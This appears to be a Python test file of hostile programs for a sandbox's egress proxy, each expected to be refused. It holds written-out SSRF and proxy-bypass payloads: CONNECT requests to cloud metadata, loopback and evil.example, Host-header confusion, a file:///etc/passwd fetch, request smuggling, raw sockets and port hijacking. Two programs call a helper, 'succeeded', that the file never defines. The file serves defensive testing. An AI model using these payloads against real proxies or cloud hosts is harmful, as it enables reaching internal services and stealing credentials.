"""Programs that have a way out, and look for another. What the proxy itself withstands is in ``tests/sandbox/egress``."""

from __future__ import annotations

from typing import Any

from tests.sandbox.hostile.catalogue import L0, L1, NOTHING, Expectation, Program, Refused, Returns, program

__all__ = ["PROGRAMS"]

# A name that leads nowhere: what is tried is everything else.
_HOSTS = ("allowed.invalid",)
_TOOLS = """
import socket, threading, time
def said(text, wait=5):
    # what the proxy answers to some bytes: the status, 0 for none
    with socket.create_connection(('127.0.0.1', 3128), timeout=wait) as wire:
        wire.sendall(text.encode('latin-1'))
        try: answer = wire.recv(4096)
        except OSError: return 0
        return int(answer.split()[1]) if answer.startswith(b'HTTP/1.') else 0
def passed(**requests):
    return [name for name, text in requests.items() if 200 <= said(text) < 400]
"""


def _out(name: str, body: str, *, held: Expectation = NOTHING, **rest: Any) -> Program:
    return program(
        name,
        _TOOLS + "def execute(input):\n" + "\n".join(f"    {line}" for line in body.strip().splitlines()),
        attack="a way out other than the one that was given",
        hosts=_HOSTS,
        held=held,
        at={L1: Refused(), L0: Refused()},
        **rest,
    )


PROGRAMS = (
    _out(
        "a tunnel leads to allowed hosts alone",
        """
targets = ['169.254.169.254:80', '127.0.0.1:%d' % input['port'], 'localhost:%d' % input['port'], '[::1]:%d' % input['port'],
           '0x7f000001:%d' % input['port'], '2130706433:%d' % input['port'], '0:%d' % input['port'], '127.1:443',
           '[::ffff:127.0.0.1]:%d' % input['port'], '[::ffff:169.254.169.254]:80', '[64:ff9b::7f00:1]:443', 'metadata.google.internal:80',
           'evil.example:443', 'allowed.invalid.evil.example:443', 'evil.example#.allowed.invalid:443', 'allowed.invalid@evil.example:443',
           'allowed.invalid:22', 'allowed.invalid:%d' % input['port'], 'xallowed.invalid:443', '.allowed.invalid:443', '*:443', ':443',
           'allowed.invalid\\x00.evil.example:443', 'unix:' + input['socket']]
return passed(**{target: f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n' for target in targets})
""",
    ),
    _out(
        "a request for one host does not go to another",
        """
port = input['port']
return passed(
    host=f'GET http://allowed.invalid/ HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n',
    two=f'GET http://allowed.invalid/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n',
    absolute=f'GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n\\r\\n',
    origin=f'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n',
    connect=f'CONNECT allowed.invalid:443 HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n',
    user=f'GET http://allowed.invalid@127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n\\r\\n',
    scheme='GET file:///etc/passwd HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n\\r\\n',
    ftp='GET ftp://allowed.invalid/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n\\r\\n',
    smuggled=f'POST http://allowed.invalid/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'
             f'0\\r\\n\\r\\nGET http://127.0.0.1:{port}/ HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n',
    folded=f'GET http://allowed.invalid/ HTTP/1.1\\r\\nHost: allowed.invalid\\r\\n X: 127.0.0.1:{port}\\r\\n\\r\\n',
    version='GET http://allowed.invalid/\\r\\n\\r\\n',
    two_versions='PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n',
)
""",
    ),
    _out(
        "there is no socket but to the proxy",
        """
def connect(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(0.5)
        client.connect(address)
        return True
return succeeded(
    loopback=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', input['port'])),
    six=lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ('::1', input['port'])),
    metadata=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80)),
    outside=lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 443)),
    udp=lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.53', 53)),
    unix=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, input['socket']),
    abstract=lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, input['abstract']),
    name=lambda: bool(socket.getaddrinfo('example.com', 443)),
    raw=lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno() >= 0,
    netlink=lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno() >= 0,
)
""",
    ),
    _out(
        "nobody else takes the proxy's place",
        """
def take(address, *options):
    with socket.socket() as server:
        for option in options: server.setsockopt(socket.SOL_SOCKET, option, 1)
        server.bind(address)
        server.listen()
        return True
both = (socket.SO_REUSEADDR, socket.SO_REUSEPORT)
return succeeded(plain=lambda: take(('127.0.0.1', 3128)), shared=lambda: take(('127.0.0.1', 3128), *both))
""",
    ),
    _out(
        "hundreds of connections that say nothing are its own loss",
        """
held = []
try:
    for _ in range(300):
        held.append(socket.create_connection(('127.0.0.1', 3128), timeout=0.2))
        held[-1].send(b'GET http://allowed.invalid/ HTTP/1.1\\r\\n')
except OSError:
    pass
return []
""",
    ),
    _out(
        "a connection that outlives its call is nobody's",
        """
if input['call'] == 2: return passed(again='CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n')
def later():
    while True:
        try: said('CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n', 1)
        except OSError: pass
        time.sleep(0.05)
threading.Thread(target=later, daemon=True).start()
return passed(first='CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n')
""",
        warm=True,
        then=Returns([]),
    ),
)
